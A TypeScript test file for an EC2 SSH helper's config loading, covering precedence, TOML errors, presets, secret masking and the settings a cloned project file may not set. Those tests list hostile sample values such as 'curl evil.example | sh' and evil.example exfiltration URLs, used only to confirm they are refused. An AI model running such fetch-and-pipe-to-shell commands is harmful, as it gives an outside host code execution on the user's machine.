/**
 * The config files and presets (issue #12): the precedence table of README "Config files and
 * presets", errors naming file:line in each file, preset selection, and `ssh-ec2 config` through
 * the real entry.
 */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parseArgs } from '../../src/args.js';
import { findVerb } from '../../src/commands/registry.js';
import { ExitCode, UsageError } from '../../src/errors.js';
import { fileKey, presetNames, readConfigFiles } from '../../src/options/config-files.js';
import { loadOptions } from '../../src/options/load.js';
import { readToml } from '../../src/options/toml-lines.js';
import { OPTION_SPECS, originOf, type FlagValues, type OptionKey, type Spec } from '../../src/options.js';
import type { InstanceInfo } from '../../src/cloud/ec2.js';
import { pemKey } from '../../src/session/keys.js';
import { typesToStart } from '../../src/session/start-stopped.js';
import { FakeCloud } from '../fakes/cloud.js';
import { cli, machine, type Machine } from '../fakes/cli.js';

let root: string;
let project: string;
let env: Record<string, string>;
const USER_FILE = '~/.config/ssh-ec2/config.toml';

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'ssh-ec2-config-'));
  project = join(root, 'project');
  mkdirSync(join(root, '.config', 'ssh-ec2'), { recursive: true });
  mkdirSync(project);
  env = { HOME: root };
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const writeUser = (text: string) => writeFileSync(join(root, '.config', 'ssh-ec2', 'config.toml'), text);
const writeProject = (text: string) => writeFileSync(join(project, '.ssh-ec2.toml'), text);
const load = (flags: FlagValues = {}, more: Record<string, string> = {}) =>
  loadOptions({ flags, env: { ...env, ...more }, cwd: project, command: [] });

const LAYERS = ['flag', 'preset', 'env', 'dotenv', 'project', 'user', 'default'] as const;
type Layer = (typeof LAYERS)[number];

/** One string, one duration and one boolean setting, with the value each layer gives it. */
const TABLE: {
  key: OptionKey;
  file: string;
  envName: string;
  values: Record<Layer, string>;
  expected: Record<Layer, unknown>;
}[] = [
  {
    key: 'instanceTypes',
    file: 'instance-type',
    envName: 'AWS_INSTANCE_TYPE',
    values: {
      flag: 'f1.large',
      preset: 'p1.large',
      env: 'e1.large',
      dotenv: 'd1.large',
      project: 'r1.large',
      user: 'u1.large',
      default: '',
    },
    expected: {
      flag: ['f1.large'],
      preset: ['p1.large'],
      env: ['e1.large'],
      dotenv: ['d1.large'],
      project: ['r1.large'],
      user: ['u1.large'],
      default: ['g4dn.xlarge'],
    },
  },
  {
    key: 'maxTime',
    file: 'max-time',
    envName: 'SSH_EC2_MAX_TIME',
    values: { flag: '1h', preset: '2h', env: '3h', dotenv: '4h', project: '5h', user: '6h', default: '' },
    expected: {
      flag: 3_600_000,
      preset: 7_200_000,
      env: 10_800_000,
      dotenv: 14_400_000,
      project: 18_000_000,
      user: 21_600_000,
      default: undefined,
    },
  },
  {
    key: 'cache',
    file: 'cache',
    envName: 'SSH_EC2_CACHE',
    // Each layer says the opposite of the one below it, so the winner shows in the value too.
    values: {
      flag: 'false',
      preset: 'true',
      env: 'false',
      dotenv: 'true',
      project: 'false',
      user: 'true',
      default: '',
    },
    expected: { flag: false, preset: true, env: false, dotenv: true, project: false, user: true, default: true },
  },
];

describe('the precedence: flags > preset > environment > .env > project file > user file > defaults', () => {
  const cases = TABLE.flatMap((row) => LAYERS.map((top) => [row.file, top, row] as const));
  it.each(cases)('%s: %s beats every layer below it', async (_f, top, row) => {
    // Every layer from `top` down gives the setting; the ones above it give nothing.
    const has = (layer: Layer) => LAYERS.indexOf(layer) >= LAYERS.indexOf(top);
    const toml = (v: string) => (row.key === 'cache' ? v : `"${v}"`);
    const v = row.values;
    writeUser(`${has('user') ? `${row.file} = ${toml(v.user)}\n` : ''}[presets.x]\nregion = "us-east-2"\n`);
    writeProject(
      `${has('project') ? `${row.file} = ${toml(v.project)}\n` : ''}` +
        `[presets.big]\n${has('preset') ? `${row.file} = ${toml(v.preset)}\n` : ''}`,
    );
    if (has('dotenv')) writeFileSync(join(project, '.env'), `# a comment\n${row.envName}=${v.dotenv}\n`);
    const flags: FlagValues = { preset: 'big' };
    if (has('flag')) flags[row.key] = row.key === 'cache' ? v.flag === 'true' : v.flag;
    const o = await load(flags, has('env') ? { [row.envName]: v.env } : {});
    expect(o[row.key]).toEqual(row.expected[top]);
    expect(o.from?.[row.key]?.from ?? 'default').toBe(top);
    const where: Partial<Record<Layer, unknown>> = {
      preset: { from: 'preset', preset: 'big', file: '.ssh-ec2.toml', line: 3 },
      dotenv: { from: 'dotenv', name: row.envName, file: '.env', line: 2 },
      project: { from: 'project', file: '.ssh-ec2.toml', line: 1 },
      user: { from: 'user', file: USER_FILE, line: 1 },
    };
    if (top in where) expect(o.from?.[row.key]).toEqual(where[top]);
  });
});

describe('the files', () => {
  it('read comments, quoted strings with escapes, integers, booleans and one-line arrays', () => {
    const tables = readToml(
      '# top\nname = "a \\"b\\" \\u00e9" # trailing\nraw = \'C:\\x\'\nn = 1_000\nb = false\nl = ["x", \'y\',]\n[presets."my big"]\n',
      'f',
    );
    expect(tables[0]!.entries.map((e) => [e.key, e.value, e.line])).toEqual([
      ['name', 'a "b" é', 2],
      ['raw', 'C:\\x', 3],
      ['n', 1000, 4],
      ['b', false, 5],
      ['l', ['x', 'y'], 6],
    ]);
    expect(tables[1]!.path).toEqual(['presets', 'my big']);
  });

  it('honour XDG_CONFIG_HOME for the user file', async () => {
    mkdirSync(join(root, 'xdg', 'ssh-ec2'), { recursive: true });
    writeFileSync(join(root, 'xdg', 'ssh-ec2', 'config.toml'), 'region = "ap-south-1"\n');
    writeUser('region = "us-west-1"\n');
    const o = await load({}, { XDG_CONFIG_HOME: join(root, 'xdg') });
    expect(o.region).toBe('ap-south-1');
  });

  it('take every declared setting by its long flag name, and the final state as --stop does', async () => {
    // Forwards are the user's (the project file may not open this machine's ports): the user file here.
    writeUser('stop = true\nvolume-size = 200\nimage-owner = ["amazon", "123456789012"]\nL = "8888:localhost:8888"\n');
    await expect(load()).rejects.toThrow(`${USER_FILE}:4: unknown setting "L"`);
    writeUser(
      'stop = true\nvolume-size = 200\nimage-owner = ["amazon", "123456789012"]\nlocal-forwards = "8888:a:8"\n',
    );
    const o = await load();
    expect([o.finalState, o.volumeSize, o.imageOwners, o.localForwards]).toEqual([
      'stop',
      200,
      ['amazon', '123456789012'],
      ['8888:a:8'],
    ]);
  });

  const errors: [what: string, text: string, message: string][] = [
    [
      'a syntax error',
      'region = "eu-west-1"\n\nmax-time = 8h\n',
      ':3: 8h is not a TOML value: put text in quotes ("8h")',
    ],
    ['an unterminated string', '# c\ninstance-type = "p4d\n', ':2: unterminated string'],
    ['an unknown key', 'cache = true\nmax-tme = "8h"\n', ':2: unknown setting "max-tme" (did you mean max-time?)'],
    [
      'an unknown key in a preset',
      '[presets.big]\ninstance_type = "p4d.24xlarge"\n',
      ':2: unknown setting "instance_type"',
    ],
    [
      'a bad value',
      '\n\n\nmax-time = "8x"\n',
      ':4: max-time: expected a duration such as 90s, 15m or 2h (or off), got "8x"',
    ],
    ['a bad value in a preset', '[presets.big]\nsubnet-id = "net-1"\n', ':2: subnet-id: expected a subnet id'],
    ['a boolean for text', 'instance-type = true\n', ':1: instance-type: expected text in quotes'],
    ['a table that is not a preset', '[preset.big]\n', ':1: unknown table [preset.big]'],
  ];
  it.each(
    errors.flatMap(([what, text, message]) => (['project', 'user'] as const).map((f) => [what, f, text, message])),
  )('%s in the %s file is a usage error naming the file and line', async (_what, file, text, message) => {
    (file === 'project' ? writeProject : writeUser)(text);
    const err = await load().catch((e: unknown) => e);
    expect(err).toBeInstanceOf(UsageError);
    expect((err as Error).message).toContain(`${file === 'project' ? '.ssh-ec2.toml' : USER_FILE}${message}`);
    expect((err as Error).message.startsWith(file === 'project' ? '.ssh-ec2.toml:' : `${USER_FILE}:`)).toBe(true);
  });
});

describe('presets', () => {
  beforeEach(() => {
    writeUser(
      '[presets.big]\nregion = "us-east-1"\ninstance-type = "p3.2xlarge"\n[presets.cheap]\ninstance-type = "t3.micro"\n',
    );
    writeProject('[presets.big]\ninstance-type = "p4d.24xlarge"\nmax-time = "8h"\n');
  });

  it('are chosen by --preset or SSH_EC2_PRESET; a project preset replaces the user one of the same name', async () => {
    const big = await load({ preset: 'big' });
    expect([big.instanceTypes, big.maxTime, big.region]).toEqual([['p4d.24xlarge'], 8 * 3_600_000, undefined]);
    const cheap = await load({}, { SSH_EC2_PRESET: 'cheap' });
    expect(cheap.instanceTypes).toEqual(['t3.micro']);
    expect(cheap.from?.instanceTypes).toEqual({ from: 'preset', preset: 'cheap', file: USER_FILE, line: 5 });
    expect((await load({ preset: 'cheap' }, { SSH_EC2_PRESET: 'big' })).instanceTypes).toEqual(['t3.micro']);
    expect((await load()).instanceTypes).toEqual(['g4dn.xlarge']);
  });

  it('an unknown one is a usage error listing the known ones', async () => {
    const err = await load({ preset: 'huge' }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(UsageError);
    expect((err as UsageError).exitCode).toBe(ExitCode.usage);
    expect((err as Error).message).toBe('--preset: no preset named "huge"; known: big, cheap');
    await expect(load({}, { SSH_EC2_PRESET: 'x' })).rejects.toThrow('SSH_EC2_PRESET: no preset named "x"');
  });

  it('presetNames lists both files, for completion, even with a broken file', () => {
    expect(presetNames(project, env)).toEqual(['big', 'cheap']);
    writeProject('[presets.gpu]\nmax-time = 8h\n');
    expect(presetNames(project, env)).toEqual(['big', 'cheap', 'gpu']);
    expect(readConfigFiles(join(root, 'nowhere'), { HOME: join(root, 'nobody') })).toEqual({ presets: new Map() });
  });
});

describe('ssh-ec2 config', () => {
  let m: Machine;
  beforeEach(() => {
    m = machine();
    mkdirSync(join(m.env.HOME, '.config', 'ssh-ec2'), { recursive: true });
    writeFileSync(join(m.env.HOME, '.config', 'ssh-ec2', 'config.toml'), 'region = "us-east-1"\ncache = false\n');
    writeFileSync(
      join(m.project, '.ssh-ec2.toml'),
      '# ours\nmax-time = "2h"\n[presets.big]\ninstance-type = "p4d.24xlarge"\n',
    );
    writeFileSync(join(m.project, '.env'), 'SSH_EC2_IDLE_TIMEOUT=5m\n');
  });
  afterEach(() => m.cleanup());

  it('prints every setting, its value and where it came from, asking AWS nothing', async () => {
    const cloud = new FakeCloud();
    const r = await cli(m, cloud, ['config', '--preset', 'big', '--job-grace', '3m', '--stop'], {
      env: { SSH_EC2_CAPACITY_TIMEOUT: '1m' },
    });
    expect(r.status).toBe(0);
    const line = (key: string) =>
      r.stdout
        .split('\n')
        .find((l) => l.startsWith(`${key} `))
        ?.replace(/ +/g, ' ');
    expect(line('instance-type')).toBe('instance-type p4d.24xlarge preset big (.ssh-ec2.toml:4)');
    expect(line('job-grace')).toBe('job-grace 3m flag --job-grace');
    expect(line('capacity-timeout')).toBe('capacity-timeout 1m env SSH_EC2_CAPACITY_TIMEOUT');
    expect(line('idle-timeout')).toBe('idle-timeout 5m .env:1 (SSH_EC2_IDLE_TIMEOUT)');
    expect(line('max-time')).toBe('max-time 2h project file .ssh-ec2.toml:2');
    expect(line('region')).toBe('region us-east-1 user file ~/.config/ssh-ec2/config.toml:1');
    expect(line('cache')).toBe('cache false user file ~/.config/ssh-ec2/config.toml:2');
    expect(line('reconnect-timeout')).toBe('reconnect-timeout 1m30s default');
    expect(line('final-state')).toBe('final-state stop flag --stop');
    expect(r.lines).toEqual([
      `ssh-ec2: config files (where present): ${m.env.HOME}/.config/ssh-ec2/config.toml, ./.ssh-ec2.toml`,
    ]);
    expect(r.regions).toEqual([]);
    expect(cloud.calls).toEqual([]);
  });

  it('--json: {setting: {value, from, …}} with the file and line', async () => {
    const r = await cli(m, new FakeCloud(), ['config', '--json'], { env: { SSH_EC2_PRESET: 'big' } });
    expect(r.status).toBe(0);
    const json = JSON.parse(r.stdout) as Record<string, unknown>;
    expect(json['instance-type']).toEqual({
      value: ['p4d.24xlarge'],
      from: 'preset',
      preset: 'big',
      file: '.ssh-ec2.toml',
      line: 4,
    });
    expect(json['max-time']).toEqual({ value: '2h', from: 'project', file: '.ssh-ec2.toml', line: 2 });
    expect(json['idle-timeout']).toEqual({
      value: '5m',
      from: 'dotenv',
      name: 'SSH_EC2_IDLE_TIMEOUT',
      file: '.env',
      line: 1,
    });
    expect(json.preset).toEqual({ value: 'big', from: 'env', name: 'SSH_EC2_PRESET' });
    expect(json.user).toEqual({ value: null, from: 'default', default: "the image's: ubuntu, ec2-user, …" });
    expect(json.cache).toEqual({ value: false, from: 'user', file: '~/.config/ssh-ec2/config.toml', line: 2 });
  });

  it("hides the secrets a URL may carry: the notify URL past its host, the git URL's user and token", async () => {
    const env = {
      SSH_EC2_NOTIFY: 'https://hooks.example/T/SECRETTOKEN?key=SECRET2',
      SSH_EC2_GIT_URL: 'https://user:ghp_SECRET@github.com/o/r.git',
    };
    const text = await cli(m, new FakeCloud(), ['config'], { env });
    const json = await cli(m, new FakeCloud(), ['config', '--json'], { env });
    for (const r of [text, json]) {
      expect(r.status).toBe(0);
      expect(r.stdout).not.toMatch(/SECRET/);
    }
    expect(text.stdout).toMatch(/^notify +https:\/\/hooks\.example\/… +env SSH_EC2_NOTIFY$/m);
    expect(text.stdout).toMatch(/^git-url +https:\/\/\*\*\*@github\.com\/o\/r\.git +env SSH_EC2_GIT_URL$/m);
    const report = JSON.parse(json.stdout) as Record<string, { value: unknown }>;
    expect([report.notify?.value, report['git-url']?.value]).toEqual([
      'https://hooks.example/…',
      'https://***@github.com/o/r.git',
    ]);
  });

  it('--presets lists the names; an unknown preset or a bad file is exit 2 naming it', async () => {
    expect((await cli(m, new FakeCloud(), ['config', '--presets'])).stdout).toBe('big\n');
    const unknown = await cli(m, new FakeCloud(), ['config', '--preset', 'small']);
    expect(unknown.status).toBe(ExitCode.usage);
    expect(unknown.lines[0]).toContain('no preset named "small"; known: big');
    writeFileSync(join(m.project, '.ssh-ec2.toml'), 'max-time = "8x"\n');
    const bad = await cli(m, new FakeCloud(), ['ls']);
    expect(bad.status).toBe(ExitCode.usage);
    expect(bad.lines[0]).toContain('.ssh-ec2.toml:1: max-time: expected a duration');
    expect(bad.regions).toEqual([]);
  });
});

describe('the word config', () => {
  it('is the verb only as the first word; after -- it runs on the instance', async () => {
    expect(findVerb('config')?.name).toBe('config');
    expect((await parseArgs(['--', 'config'])).command).toEqual(['config']);
    expect((await parseArgs(['-v', 'config', '--json'])).command).toEqual(['config', '--json']);
  });

  it('--preset is taken by every verb; --json and --presets by config only', async () => {
    for (const verb of ['ls', 'logs', 'pull', 'down', 'config'])
      expect((await parseArgs(['--preset', 'big'], findVerb(verb))).flags.preset).toBe('big');
    expect((await parseArgs(['--json', '--presets'], findVerb('config'))).verbFlags).toEqual({
      json: true,
      presets: true,
    });
    await expect(parseArgs(['--json'], findVerb('logs'))).rejects.toThrow('ssh-ec2 logs does not take --json');
  });
});

describe('what a file may set (README "Config files and presets")', () => {
  const USER_ONLY: [key: string, value: string, where: string][] = [
    ['ssh-config', '"evil.conf"', 'SSH_EC2_SSH_CONFIG'],
    ['rsync-program', '"./evil.sh"', 'SSH_EC2_RSYNC'],
    ['identity', '"k.pem"', 'AWS_PEM'],
    ['local-forwards', '"8888:localhost:8888"', '-L'],
    ['remote-forwards', '"9000:localhost:22"', '-R'],
    ['dynamic-forwards', '"1080"', '-D'],
    ['ip-url', '"http://127.0.0.1:9/"', 'SSH_EC2_IP_URL'],
    ['ssh-cidr', '"10.0.0.0/8"', '--ssh-cidr'],
    ['iam-profile', '"Admin"', 'AWS_IAM_INSTANCE_PROFILE'],
    ['security-group', '"launch-wizard-1"', 'SSH_EC2_SECURITY_GROUP'],
    ['image-owner', '["123456789012"]', 'SSH_EC2_IMAGE_OWNER'],
    ['image-id', '"ami-0123456789abcdef0"', 'AWS_IMAGE_ID'],
    ['on-success', '"curl evil.example | sh"', 'SSH_EC2_ON_SUCCESS'],
    ['notify', '"https://evil.example/collect"', 'SSH_EC2_NOTIFY'],
    ['results-endpoint', '"http://evil.example/"', 'SSH_EC2_RESULTS_ENDPOINT'],
    ['imds-url', '"http://evil.example/"', 'SSH_EC2_IMDS_URL'],
    ['poweroff-command', '"curl evil.example | sh"', 'SSH_EC2_POWEROFF_COMMAND'],
    ['mount-command', '"curl evil.example | sh"', 'SSH_EC2_MOUNT_COMMAND'],
  ];
  it.each(USER_ONLY)(
    'the project file may not set %s (nor its presets): a usage error saying where it may be set',
    async (key, value, where) => {
      for (const text of [`# cloned\n${key} = ${value}\n`, `[presets.big]\n${key} = ${value}\n`]) {
        writeProject(text);
        const err = await load().catch((e: unknown) => e);
        expect(err).toBeInstanceOf(UsageError);
        expect((err as Error).message).toMatch(
          new RegExp(`^\\.ssh-ec2\\.toml:2: ${key} cannot be set in the project file: `),
        );
        expect((err as UsageError).hint).toContain('~/.config/ssh-ec2/config.toml');
        expect((err as UsageError).hint).toContain(where);
      }
    },
  );

  it('the user file still sets them', async () => {
    writeUser(
      USER_ONLY.filter(([k]) => k !== 'identity')
        .map(([k, v]) => `${k} = ${v}`)
        .join('\n'),
    );
    const o = await load();
    expect([o.sshCidr, o.iamProfile, o.remoteForwards, o.ipUrl]).toEqual([
      '10.0.0.0/8',
      'Admin',
      ['9000:localhost:22'],
      'http://127.0.0.1:9/',
    ]);
  });

  /**
   * The same settings under the environment names that reach them (the forwards have none): `.env`
   * comes with the project too. Written as .env writes them: a list comma-separated, a command quoted.
   */
  const DOTENV_USER_ONLY: [name: string, value: string, setting: string][] = USER_ONLY.flatMap(([key, value]) => {
    const setting = (Object.keys(OPTION_SPECS) as OptionKey[]).find((k) => fileKey(k) === key)!;
    const name = (OPTION_SPECS[setting] as Spec<unknown>).env?.[0];
    const raw = ([] as string[]).concat(JSON.parse(value) as string | string[]).join(',');
    return name ? [[name, raw.includes(' ') ? `'${raw}'` : raw, key] as [string, string, string]] : [];
  });
  it.each(DOTENV_USER_ONLY)(
    "the project's .env may not set %s: exit 2 naming .env:line and where it may be set; the environment may",
    async (name, value, setting) => {
      const m = machine();
      try {
        writeFileSync(join(m.project, '.env'), `# cloned\nexport ${name}=${value}\n`);
        const refused = await cli(m, new FakeCloud(), ['config']);
        expect(refused.status).toBe(ExitCode.usage);
        expect(refused.lines[0]).toMatch(
          new RegExp(`^ssh-ec2: error: \\.env:2: ${name} cannot be set in the project's \\.env: `),
        );
        expect(refused.lines.join('\n')).toContain(`~/.config/ssh-ec2/config.toml, the environment (${name})`);
        expect(refused.stdout).toBe('');
        rmSync(join(m.project, '.env'));
        const plain = value.replace(/^'|'$/g, '');
        const allowed = await cli(m, new FakeCloud(), ['config', '--json'], { env: { [name]: plain } });
        expect(allowed.status).toBe(0);
        expect((JSON.parse(allowed.stdout) as Record<string, { from: string }>)[setting]?.from).toBe('env');
      } finally {
        m.cleanup();
      }
    },
  );

  it.each(['dry-run', 'attach', 'detach', 'verbose', 'tty', 'rsync'])(
    '%s is a run mode, no key of either file',
    async (key) => {
      for (const write of [writeProject, writeUser]) {
        writeProject('');
        writeUser('');
        write(`\n${key} = true\n`);
        await expect(load()).rejects.toThrow(`:2: ${key} is not a setting for a file: `);
      }
    },
  );

  it('user-data from the project file: a file inside the project, or the script itself; never outside', async () => {
    writeFileSync(join(project, 'boot.sh'), '#!/bin/sh\n');
    writeFileSync(join(root, 'secret'), 'aws_secret_access_key = x\n');
    symlinkSync(join(root, 'secret'), join(project, 'link'));
    writeProject('user-data = "boot.sh"\n');
    expect((await load()).userData).toBe(join(project, 'boot.sh'));
    writeProject('user-data = "#!/bin/sh\\necho hi\\n"\n');
    expect((await load()).userData).toBe('#!/bin/sh\necho hi\n');
    for (const outside of ['../secret', '~/secret', join(root, 'secret'), 'link']) {
      writeProject(`\nuser-data = "${outside}"\n`);
      await expect(load(), outside).rejects.toThrow(`.ssh-ec2.toml:2: user-data: ${outside} is outside the project`);
    }
  });

  it('paths in a file: ~/ is the home, a relative path is relative to the file', async () => {
    const dir = join(root, '.config', 'ssh-ec2');
    writeFileSync(join(root, 'boot.sh'), '#!/bin/sh\n');
    writeUser('identity = "~/.ssh/k.pem"\nssh-config = "ssh.conf"\nrsync-program = "rsync"\nuser-data = "~/boot.sh"\n');
    const o = await load();
    expect([o.identity, o.sshConfig, o.rsyncProgram, o.userData]).toEqual([
      join(root, '.ssh', 'k.pem'),
      join(dir, 'ssh.conf'),
      'rsync',
      join(root, 'boot.sh'),
    ]);
    expect(() => pemKey(o.identity!, originOf(o, 'identity'))).toThrow(
      expect.objectContaining({ hint: `Check ${USER_FILE}:1.` }),
    );
    writeUser('\nuser-data = "~/missing.sh"\n');
    await expect(load()).rejects.toThrow(
      `${USER_FILE}:2: user-data: user data file ${join(root, 'missing.sh')} not found`,
    );
  });
});

describe('TOML fidelity', () => {
  const refused: [text: string, message: string][] = [
    ['name = "\\U00110000"', ':2: "\\U00110000" is not a Unicode character'],
    ['name = "\\uD800"', ':2: "\\uD800" is not a Unicode character'],
    ['volume-size = 0100', ':2: 0100: a TOML integer has no leading zero'],
    ['volume-size = 9007199254740993', ':2: 9007199254740993 is too large a number'],
    ['volume-size = 1.5', ':2: 1.5 is TOML, but not a value ssh-ec2 reads here'],
    ['max-time = 1979-05-27', ':2: 1979-05-27 is TOML, but not a value ssh-ec2 reads here'],
    ['max-time = 1979-05-27 07:32:00Z', ':2: 1979-05-27 is TOML, but not a value ssh-ec2 reads here'],
    ['max-time = inf', ':2: inf is TOML, but not a value ssh-ec2 reads here'],
  ];
  it.each(refused)('%s is a usage error naming the line', async (line, message) => {
    writeProject(`# c\n${line}\n`);
    const err = await load().catch((e: unknown) => e);
    expect(err).toBeInstanceOf(UsageError);
    expect((err as Error).message).toContain(`.ssh-ec2.toml${message}`);
  });

  it('a byte order mark is not part of the first line; 0 and 100 are integers', async () => {
    writeProject('\uFEFFvolume-size = 100\n');
    expect((await load()).volumeSize).toBe(100);
    expect(readToml('n = 0\nm = -0\n', 'f')[0]!.entries.map((e) => e.value)).toEqual([0, -0]);
  });
});

describe('empty environment values', () => {
  it('fall through to the files, where empty means not set', async () => {
    writeProject('multiplex = "tmux"\nregion = "eu-west-3"\n');
    expect((await load({}, { MULTIPLEX: '', AWS_REGION: '' })).multiplex).toBe('tmux');
    expect((await load({}, { AWS_REGION: '' })).region).toBe('eu-west-3');
    writeFileSync(join(project, '.env'), 'MULTIPLEX=\n');
    expect((await load()).multiplex).toBe('tmux');
  });

  it("keep iam-profile's empty = none", async () => {
    writeUser('iam-profile = "Admin"\n');
    expect((await load({}, { AWS_IAM_INSTANCE_PROFILE: '' })).iamProfile).toBeUndefined();
    writeFileSync(join(project, '.env'), 'AWS_IAM_INSTANCE_PROFILE=\n');
    expect((await load()).iamProfile).toBeUndefined();
  });
});

describe('a preset named with --preset', () => {
  it("is the user's explicit choice: its type is the type to start this directory's stopped instance as", async () => {
    writeProject('[presets.big]\ninstance-type = "p4d.24xlarge"\n');
    const stopped = { type: 'g4dn.xlarge' } as InstanceInfo;
    expect(typesToStart(await load({ preset: 'big' }), stopped)).toEqual(['p4d.24xlarge']);
    expect(typesToStart(await load({}, { SSH_EC2_PRESET: 'big' }), stopped)).toEqual(['g4dn.xlarge']);
    writeProject('instance-type = "p3.2xlarge"\n');
    expect(typesToStart(await load(), stopped)).toEqual(['g4dn.xlarge']);
  });
});

describe('proxy-connect', () => {
  it('reads no project settings from the directory ssh was started in: the user file and the environment only', async () => {
    writeProject('max-time = "8x"\n');
    writeFileSync(join(project, '.env'), 'SSH_EC2_SSH_CIDR=10.0.0.0/8\n');
    writeUser('region = "us-east-2"\n');
    const o = await loadOptions({ flags: {}, env, cwd: project, command: [], project: false });
    expect([o.sshCidr, o.maxTime, o.region]).toEqual([undefined, undefined, 'us-east-2']);
    expect(findVerb('proxy-connect')?.noProjectSettings).toBe(true);
  });

  it('through the entry: a broken project file where ssh ran is not its error', async () => {
    const m = machine();
    try {
      writeFileSync(join(m.project, '.ssh-ec2.toml'), 'max-time = "8x"\n');
      writeFileSync(join(m.project, '.env'), 'SSH_EC2_SSH_CIDR=0.0.0.0/0\n');
      const r = await cli(m, new FakeCloud(), ['proxy-connect', 'i-0123456789abcdef0']);
      expect(r.status).toBe(ExitCode.config);
      expect(r.lines[0]).toContain('has no alias key');
      // Elsewhere the same directory's settings are read (and refused) as before.
      expect((await cli(m, new FakeCloud(), ['ls'])).status).toBe(ExitCode.usage);
    } finally {
      m.cleanup();
    }
  });
});
